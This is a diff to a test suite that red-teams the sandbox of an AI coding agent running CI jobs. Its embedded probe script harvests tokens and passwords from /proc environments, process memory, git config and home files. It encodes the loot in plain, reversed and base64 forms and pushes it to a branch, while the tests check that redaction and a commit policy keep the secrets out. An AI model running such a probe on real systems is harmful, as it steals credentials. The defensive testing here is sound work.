@@ -57,20 +57,40 @@ RUNNER_UID = 4242
 PROBE = r"""
 import base64, os, re, subprocess, sys
 NAMES = re.compile(rb"(TOKEN|KEY|PASSWORD|JWT|extraheader|AUTHORIZATION|://[^/\s]*@)", re.I)
-found, routes = [], []
+found, memory, routes = [], [], []
 
-def keep(route, data):
+def keep(route, data, into=found):
     if isinstance(data, str):
         data = data.encode("utf-8", "replace")
     hits = [data[max(0, m.start() - 40): m.end() + 120] for m in NAMES.finditer(data)]
     routes.append(f"{route}: read {len(data)} bytes, {len(hits)} hit(s)")
-    found.extend(hits[:50])
+    into.extend(hits[:50])
 
 def refused(route, exc):
     routes.append(f"{route}: refused ({type(exc).__name__})")
 
+def parent(pid):
+    with open(f"/proc/{pid}/stat") as stat:
+        return int(stat.read().rsplit(")", 1)[1].split()[1])
+
+def job_processes():
+    # In a CI container every process belongs to the job; on a shared test machine the
+    # probe keeps to its own ancestors (planner, the job shell) and their other children.
+    chain, pid = [], os.getppid()
+    while pid > 1:
+        chain.append(pid)
+        pid = parent(pid)
+    pids = set(chain) | {1}
+    for entry in os.listdir("/proc"):
+        try:
+            if entry.isdigit() and parent(int(entry)) in chain:
+                pids.add(int(entry))
+        except (OSError, IndexError, ValueError):
+            pass
+    return sorted(pids - {os.getpid()})
+
 keep("own environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
-for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
+for pid in job_processes():
     for name in ("environ", "cmdline"):
         try:
             with open(f"/proc/{pid}/{name}", "rb") as handle:
@@ -83,7 +103,7 @@ for pid in sorted(p for p in os.listdir("/proc") if p.isdigit() and int(p) != os
                 if "[heap]" in line or "[stack]" in line:
                     start, end = (int(x, 16) for x in line.split()[0].split("-"))
                     mem.seek(start)
-                    keep(f"/proc/{pid}/mem", mem.read(min(end - start, 256 << 20)))
+                    keep(f"/proc/{pid}/mem", mem.read(min(end - start, 256 << 20)), memory)
     except (OSError, ValueError, OverflowError) as exc:
         refused(f"/proc/{pid}/mem", exc)
 for command in (["git", "config", "--list", "--show-origin"], ["git", "remote", "-v"],
@@ -99,7 +119,7 @@ for directory in {os.environ.get("HOME", ""), sys.argv[1], ".git"} - {""}:
                     keep(os.path.join(root, name), handle.read(1 << 20))
             except OSError as exc:
                 refused(os.path.join(root, name), exc)
-loot = b"\n".join(found)
+loot = b"\n".join(found + memory)  # environments and files first: they are short
 report = [f"uid={os.getuid()} euid={os.geteuid()}", *routes]
 report += ["PLAIN", loot.decode("latin-1"), "REVERSED", loot[::-1].decode("latin-1")]
 report += ["BASE64", base64.b64encode(loot).decode()]
@@ -322,6 +342,8 @@ def assert_probe_found_nothing(
     written = everything_written(finished, model, workspace, bare, bodies)
     for where, text in written.items():
         assert leaks(text, secrets) == [], f"secret in {where}: {leaks(text, secrets)}"
+    refused = [body for body in bodies if "rule no-secrets" in body]
+    assert refused == [], "the probe found a secret: the commit policy kept its loot file back"
     loot = git(bare, "show", f"{branch}:loot.txt")
     assert "PLAIN" in loot and "/proc/1/environ" in loot, "the probe's findings were not pushed"
     assert leaks(loot, secrets) == [], f"the probe found {leaks(loot, secrets)}"
@@ -405,8 +427,9 @@ def test_probe_as_the_same_user_cannot_read_planner(reachable_tmp: Path) -> None
 
 def test_control_without_the_user_switch_root_reads_the_job_shell(reachable_tmp: Path) -> None:
     """The probe is not blind: with tools.sandbox_user off, root tools read the job shell's
-    environment (CAP_SYS_PTRACE). Redaction still keeps it out of everything planner writes;
-    the pushed loot file (written by the probe itself) is where it shows."""
+    environment (CAP_SYS_PTRACE). The other layers still hold: redaction keeps the values out of
+    everything planner writes, and the commit policy keeps the probe's loot file (holding the
+    token) out of the pushed branch."""
     only_as_root()
     fake = FakeGitLab(reachable_tmp / "fake", token=FORGE_TOKEN).start()
     try:
@@ -417,9 +440,15 @@ def test_control_without_the_user_switch_root_reads_the_job_shell(reachable_tmp:
             env = gitlab_job(fake, reachable_tmp, model)
             finished = run_entry(env, workspace, shell=True)
             assert finished.returncode == 0, finished.stdout
-            loot = git(fake.bare, "show", "planner/issue-12:loot.txt")
-        assert leaks(loot, [JOB_TOKEN]), "the probe should have read the shell's environment"
-        assert leaks(json.dumps([r.body for r in model.requests]), GITLAB_SECRETS) == []
+            report = tool_result(model)
+            written = everything_written(finished, model, workspace, fake.bare, gitlab_bodies(fake))
+        assert "CI_JOB_TOKEN=[redacted]" in report  # found, and redacted on its way to the model
+        assert "loot.txt" not in git(fake.bare, "ls-tree", "--name-only", "planner/issue-12")
+        assert any(
+            "'loot.txt' was not committed (rule no-secrets)" in b for b in gitlab_bodies(fake)
+        )
+        for where, text in written.items():
+            assert leaks(text, GITLAB_SECRETS) == [], f"secret in {where}"
     finally:
         fake.stop()
 
